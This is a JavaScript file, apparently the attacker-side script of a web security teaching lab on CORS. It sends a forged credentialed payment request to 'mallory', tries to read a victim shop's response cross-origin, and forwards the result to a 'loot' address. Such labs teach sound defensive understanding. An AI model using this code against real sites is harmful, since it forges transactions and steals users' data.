// The attack of the lab "cors": a script of another origin has a request sent, and tries to read an answer.

/** How long an answer may take, in ms. */
const PATIENCE = 10000;
/** Long enough to see the address, in ms. */
const PAUSE = 600;

const { send, read, loot } = document.querySelector("[data-cors]").dataset;

attack();

async function attack() {
  // The first gate, sending: this request needs no permission, and its answer is not read.
  const body = new URLSearchParams({ to: "mallory", amount: "60" });
  await ask(send, { method: "POST", mode: "no-cors", body });
  // The second gate, reading: the browser gives the answer away only if the shop permits it.
  const got = await ask(read, { mode: "cors" });
  await ask(`${loot}?c=${encodeURIComponent(got)}`, { mode: "no-cors", credentials: "omit" });
  if (!document.body.hasAttribute("data-auto")) return;
  await new Promise((done) => setTimeout(done, PAUSE));
  document.querySelector("[data-then]").click();
}

/** What the answer says, or nothing if the script may not read it. */
async function ask(url, how) {
  try {
    const answer = await fetch(url, { credentials: "include", signal: AbortSignal.timeout(PATIENCE), ...how });
    return await answer.text();
  } catch {
    return "";
  }
}
